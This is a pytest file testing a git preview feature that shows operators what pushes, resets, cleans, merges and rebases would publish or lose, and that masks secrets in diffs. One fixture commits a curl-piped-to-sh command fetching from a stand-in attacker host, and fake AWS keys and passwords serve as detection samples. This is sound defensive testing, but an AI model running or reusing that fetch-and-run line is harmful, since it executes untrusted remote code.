"""Operators see what would be published, lost, taken up or recorded; small, masked, and bounded."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from repos import Adopted, adopted_repository, clone, commit_file, plain_git

from executor.git.binding import bind
from executor.git.grammar import judge
from executor.git.lexer import split
from executor.git.preview import preview
from executor.git.push_report import PushFacts, PushKind
from executor.git.secrets import FINDINGS_LIMIT
from executor.policy.model import (
    AddParams,
    Ask,
    CmdParams,
    CommitParams,
    NoParams,
    Operation,
    Params,
    PushParams,
    Request,
    RiskClass,
)

LIMIT = 64 * 1024  # bytes of JSON: more could not be read on a card
AWS_KEY = "AKIA" + "Q7Z3HT5K9WPLMNO2"


@pytest.fixture
def repository(tmp_path: Path) -> Adopted:
    return adopted_repository(tmp_path, commits=3)


def seen(repository: Adopted, line: str) -> dict[str, object]:
    """What operators see of a git command line."""
    words = split(line)
    judged = judge(words)
    ask = Ask(judged.risk, judged.argv, (), command=judged)
    return shown(repository, Request(Operation.GIT_CMD, CmdParams(words)), ask)


def typed(repository: Adopted, operation: Operation, params: Params, *values: str) -> dict[str, object]:
    return shown(repository, Request(operation, params), Ask(RiskClass.CHANGE, (str(operation), *values), ()))


def shown(repository: Adopted, request: Request, ask: Ask) -> dict[str, object]:
    git = repository.open()
    before = repository.plain("for-each-ref"), repository.plain("status", "--porcelain=v2", "--branch")
    found = preview(git, request, ask, bind(git, request, ask))

    assert (repository.plain("for-each-ref"), repository.plain("status", "--porcelain=v2", "--branch")) == before
    assert len(json.dumps(found)) <= LIMIT
    return found


def pushes(found: dict[str, object]) -> list[PushFacts]:
    assert isinstance(found["push"], list)
    return [PushFacts.from_data(one) for one in found["push"]]


def said(found: dict[str, object], name: str) -> list[str]:
    assert set(found) == {name}
    assert isinstance(found[name], list)
    return list(found[name])  # type: ignore[call-overload]


def test_a_push_shows_its_facts_and_the_diff(repository: Adopted) -> None:
    commit = repository.commit("app.py", "x = 1\n", "Add the app")
    found = typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")
    [facts] = pushes(found)

    assert (facts.kind, facts.remote, facts.new, facts.commits[0].subject) == (
        PushKind.FAST_FORWARD, "origin", commit, "Add the app",
    )  # fmt: skip
    assert "+x = 1" in str(found["diff"])


def test_a_push_by_command_shows_each_ref_that_it_moves_what_is_overwritten_first(repository: Adopted) -> None:
    repository.plain("branch", "added")
    repository.plain("push", "-q", "origin", "main:old")
    repository.plain("reset", "-q", "--hard", "HEAD~1")
    found = seen(repository, "push origin added +main :old")

    assert [(one.short_ref, one.kind) for one in pushes(found)] == [
        ("main", PushKind.REWRITE),
        ("old", PushKind.DELETION),
        ("added", PushKind.NEW_BRANCH),
    ]


def test_a_push_of_many_refs_shows_some_and_says_how_many_more(repository: Adopted) -> None:
    for number in range(20):
        repository.plain("tag", f"v{number}")
    found = seen(repository, "push --tags origin")

    assert len(pushes(found)) == 8
    assert found["more"] == "12 more refs, named among what this depends on"


def test_code_that_passes_for_a_secret_is_masked_in_the_diff_and_said_to_be_with_how_to_see_it(
    repository: Adopted,
) -> None:
    before = repository.plain("rev-parse", "HEAD").strip()
    commit = repository.commit("deploy.sh", 'token="$(curl -s https://evil.example/x | sh)"\n', "Deploy")
    found = typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")
    assert "evil.example" not in str(found["diff"])
    assert pushes(found)[0].secrets == (), "it does not look like a secret to those who look for some"
    assert isinstance(found["masked"], list)
    [said_so] = found["masked"]
    shown_on_the_host = plain_git(repository.tree.parent, *said_so.partition("on the host: git ")[2].split())
    assert said_so.endswith(f"{before} {commit}")
    assert "evil.example" in shown_on_the_host


def test_a_diff_that_hides_nothing_says_nothing_of_it(repository: Adopted) -> None:
    repository.commit("app.py", "x = 1\n", "Add the app")
    assert "masked" not in typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")


def test_secrets_in_a_diff_are_masked_and_told_by_place(repository: Adopted) -> None:
    repository.commit("app.py", f'KEY = "{AWS_KEY}"\n', f"Add {AWS_KEY}")
    found = typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")

    assert AWS_KEY not in json.dumps(found)
    assert "app.py" in {secret.path for secret in pushes(found)[0].secrets}


def test_a_huge_push_stays_small_and_says_what_is_not_shown(repository: Adopted) -> None:
    for number in range(300):
        repository.write(f"{'deep/' * 30}{number}.txt", "\u202e\x01text\n" * 50)
    repository.plain("add", "-A")
    repository.plain("commit", "-q", "-m", "S" * 20_000)
    found = typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")
    [facts] = pushes(found)

    assert facts.files_total == 300
    assert 0 < len(facts.files) < 300
    assert len(facts.commits[0].subject) < 400
    assert str(found["diff"]).endswith("(the diff goes on: this is its beginning)")


def test_a_diff_in_any_script_stays_small(repository: Adopted) -> None:
    repository.commit("text.txt", "函数 функция 🍲 größe\n" * 3000)

    assert "函数 функция 🍲 größe" in str(typed(repository, Operation.GIT_PUSH, PushParams("main"), "main")["diff"])


def test_many_possible_secrets_under_long_names_are_counted_although_few_are_named(repository: Adopted) -> None:
    for number in range(60):
        repository.write(f"{'x' * 200}/{'y' * 200}{number}.env", "DB_PASSWORD=hunter2x\n")
    repository.plain("add", "-A")
    repository.plain("commit", "-q", "-m", "Many")
    [facts] = pushes(typed(repository, Operation.GIT_PUSH, PushParams("main"), "main"))

    named = [secret for secret in facts.secrets if secret.path and secret.line]
    assert facts.secrets[-1].kind == f"{FINDINGS_LIMIT + 1 - len(named)} more places that may hold secrets"
    assert {risk.kind: risk.count for risk in facts.risks}["environment"] == 60


def test_a_recovery_shows_its_plan(repository: Adopted) -> None:
    repository.plain("checkout", "-q", "--detach")
    repository.commit("lonely.txt", "x\n")
    plan = said(typed(repository, Operation.GIT_RECOVER, NoParams()), "plan")

    assert any("detached" in line for line in plan)
    assert any(line.startswith("1. Keep what there is") for line in plan)
    assert any("Switch to main" in line for line in plan)


def test_a_hard_reset_shows_the_files_and_commits_that_it_loses(repository: Adopted) -> None:
    repository.commit("new.txt", "x\n", "Only here")
    repository.write("file.txt", "changed\n")
    repository.write("untracked.txt", "stays\n")
    lost = said(seen(repository, "reset --hard HEAD~2"), "loses")

    assert lost[:2] == ["Uncommitted changes (1):", "   M file.txt"]
    assert lost[2] == "Commits that no other branch or tag has (1):"
    assert lost[3].endswith(": Only here")


def test_a_hard_reset_of_a_clean_tree_to_where_it_is_loses_nothing(repository: Adopted) -> None:
    assert seen(repository, "reset --hard") == {}


@pytest.mark.parametrize("line", ["checkout -- sub", "restore sub", "checkout HEAD -- sub", "restore -s HEAD sub"])
def test_taking_files_from_git_shows_the_changes_that_are_lost_in_them(repository: Adopted, line: str) -> None:
    repository.commit("sub/a.txt", "x\n")
    repository.write("sub/a.txt", "changed\n")
    repository.write("file.txt", "changed too\n")

    assert said(seen(repository, line), "loses") == ["Uncommitted changes (1):", "   M sub/a.txt"]


def test_what_is_staged_is_lost_only_where_the_files_come_from_a_commit(repository: Adopted) -> None:
    repository.write("file.txt", "staged\n")
    repository.plain("add", "file.txt")

    assert seen(repository, "checkout -- file.txt") == {}
    assert said(seen(repository, "checkout HEAD -- file.txt"), "loses")[1] == "  M  file.txt"
    assert seen(repository, "restore --staged file.txt") == {}


def test_a_forced_switch_shows_the_changes_that_it_discards(repository: Adopted) -> None:
    repository.plain("branch", "dev")
    repository.write("file.txt", "changed\n")

    for line in ("checkout -f dev", "switch --discard-changes dev"):
        assert said(seen(repository, line), "loses")[1] == "   M file.txt"


def test_cleaning_shows_what_git_would_delete(repository: Adopted) -> None:
    repository.commit(".gitignore", "*.log\n")
    for name in ("junk.txt", "dir/junk.txt", "ignored.log", "keep.me"):
        repository.write(name, "x\n")

    assert said(seen(repository, "clean -f"), "loses") == ["Would remove junk.txt", "Would remove keep.me"]
    assert "Would remove dir/" in said(seen(repository, "clean -fdx -e keep.me"), "loses")
    assert "Would remove ignored.log" in said(seen(repository, "clean -fdx -e keep.me"), "loses")
    assert "Would remove keep.me" not in said(seen(repository, "clean -fdx -e keep.me"), "loses")
    assert (repository.tree / "junk.txt").exists()


def test_deleting_a_branch_shows_the_commits_that_only_it_has(repository: Adopted) -> None:
    repository.plain("switch", "-q", "-c", "topic/one")
    repository.commit("topic.txt", "x\n", "Only on the topic")
    repository.plain("switch", "-q", "main")
    repository.plain("branch", "same")
    lost = said(seen(repository, "branch -D topic/one"), "loses")

    assert lost[1] == "Commits that no other branch or tag has (1):"
    assert lost[2].endswith(": Only on the topic")
    assert len(said(seen(repository, "branch -D same"), "loses")) == 1


def test_moving_a_branch_or_a_tag_shows_what_it_leaves(repository: Adopted) -> None:
    repository.plain("switch", "-q", "-c", "topic")
    left = repository.commit("topic.txt", "x\n", "Left behind")
    repository.plain("switch", "-q", "main")

    for line in ("branch -f topic main", "checkout -B topic main", "switch -C topic main", "branch -M main topic"):
        assert said(seen(repository, line), "loses")[2].startswith(f"  {left[:10]}"), line
    repository.plain("tag", "-f", "v1", "topic")
    repository.plain("branch", "-q", "-D", "topic")
    assert said(seen(repository, "tag -f v1 main"), "loses")[2].startswith(f"  {left[:10]}")
    assert said(seen(repository, "tag -d v1"), "loses")[2].startswith(f"  {left[:10]}")


def test_dropping_a_stash_shows_what_is_in_it(repository: Adopted) -> None:
    repository.write("file.txt", "put away\n")
    repository.plain("stash", "push", "-q", "-m", "half done")
    lost = said(seen(repository, "stash drop"), "loses")

    assert "half done" in lost[1]
    assert lost[2:] == ["Files in it (1):", "  M  file.txt"]
    assert "half done" in said(seen(repository, "stash clear"), "loses")[1]


def test_aborting_a_merge_shows_the_work_that_it_discards(repository: Adopted) -> None:
    repository.plain("switch", "-q", "-c", "side", "HEAD~1")
    repository.commit("file.txt", "theirs\n")
    repository.plain("switch", "-q", "main")
    with pytest.raises(AssertionError):
        repository.plain("merge", "side")

    assert said(seen(repository, "merge --abort"), "loses")[1] == "  UU file.txt"


def test_a_merge_shows_the_commits_and_files_that_it_brings_in(repository: Adopted) -> None:
    repository.plain("switch", "-q", "-c", "side")
    repository.commit("side.txt", "x\n", "On the side")
    repository.plain("switch", "-q", "main")
    repository.commit("main.txt", "x\n")
    lines = said(seen(repository, "merge side"), "involves")

    assert lines[0] == "Brings in (1):"
    assert lines[1].endswith(": On the side")
    assert lines[2:] == ["Changes files (1):", "  A  side.txt (+1 -0)"]


def test_picking_and_reverting_show_exactly_the_commits_they_name(repository: Adopted) -> None:
    [title, reverted] = said(seen(repository, "revert HEAD~1"), "involves")

    assert (title, reverted.endswith("Test Person: Commit 2")) == ("Reverts (1):", True)
    assert reverted.startswith(f"  {repository.plain('rev-parse', '--short=10', 'HEAD~1')} ")
    assert len(said(seen(repository, "cherry-pick HEAD~2..HEAD"), "involves")) == 3


def test_a_rebase_shows_the_commits_that_it_writes_anew(repository: Adopted, tmp_path: Path) -> None:
    assert repository.remote is not None
    repository.plain("branch", "base", "HEAD~2")

    assert said(seen(repository, "rebase base"), "involves")[0] == "Writes anew (2):"
    repository.commit("mine.txt", "x\n", "Mine")
    assert said(seen(repository, "rebase"), "involves")[0] == "Writes anew (1):"
    colleague = clone(repository.remote, tmp_path / "colleague")
    commit_file(colleague, "theirs.txt", "x\n")
    plain_git(colleague, "push", "-q", "origin", "main")
    repository.plain("fetch", "-q", "origin")
    assert said(seen(repository, "rebase origin/main main"), "involves")[0] == "Writes anew (1):"


def test_amending_shows_the_commit_that_is_replaced(repository: Adopted) -> None:
    assert seen(repository, "commit --amend --no-edit")["involves"][1].endswith(": Commit 3")  # type: ignore[index]


def test_a_commit_shows_what_the_index_holds_and_what_stands_out_in_it(repository: Adopted) -> None:
    repository.write("app.py", f'KEY = "{AWS_KEY}"\n')
    repository.write("Dockerfile", "FROM scratch\n")
    repository.plain("add", "app.py", "Dockerfile")
    repository.write("file.txt", "not staged\n")
    lines = said(typed(repository, Operation.GIT_COMMIT, CommitParams("Message"), "Message"), "stages")

    assert lines[0] == "! secret? an AWS key in app.py (line 1)"
    assert lines[1].startswith("warning: changes how this is built")
    assert lines[2:] == ["Changes files (2):", "  A  Dockerfile (+1 -0)", "  A  app.py (+1 -0)"]


def test_a_first_commit_is_shown_too(tmp_path: Path) -> None:
    repository = adopted_repository(tmp_path, commits=0, pushed=False)
    repository.write("a.txt", "x\n")
    repository.plain("add", "a.txt")

    assert said(typed(repository, Operation.GIT_COMMIT, CommitParams("First")), "stages")[1] == "  A  a.txt (+1 -0)"


def test_adding_shows_the_files_that_it_stages_and_takes_paths_literally(repository: Adopted) -> None:
    repository.write("*.txt", "a strange name\n")
    repository.write("new.txt", "x\n")
    repository.write("file.txt", "changed\n")

    assert said(typed(repository, Operation.GIT_ADD, AddParams(("*.txt",)), "*.txt"), "stages") == [
        "Stages (1):",
        "  ?? *.txt",
    ]
    assert len(said(typed(repository, Operation.GIT_ADD, AddParams((".",)), "."), "stages")) == 4


def test_committing_everything_shows_the_uncommitted_changes(repository: Adopted) -> None:
    repository.write("file.txt", "changed\n")

    assert said(seen(repository, "commit -a -m Message"), "stages") == ["Uncommitted changes (1):", "   M file.txt"]


def test_what_cannot_be_looked_up_is_said_and_is_still_asked(repository: Adopted) -> None:
    assert said(seen(repository, "merge no-such-branch"), "unseen")[0].startswith("What this would change")


def test_a_command_that_neither_loses_nor_brings_anything_shows_nothing_more(repository: Adopted) -> None:
    for line in ("branch topic", "tag -m One v1", "fetch origin", "gc"):
        assert seen(repository, line) == {}, line
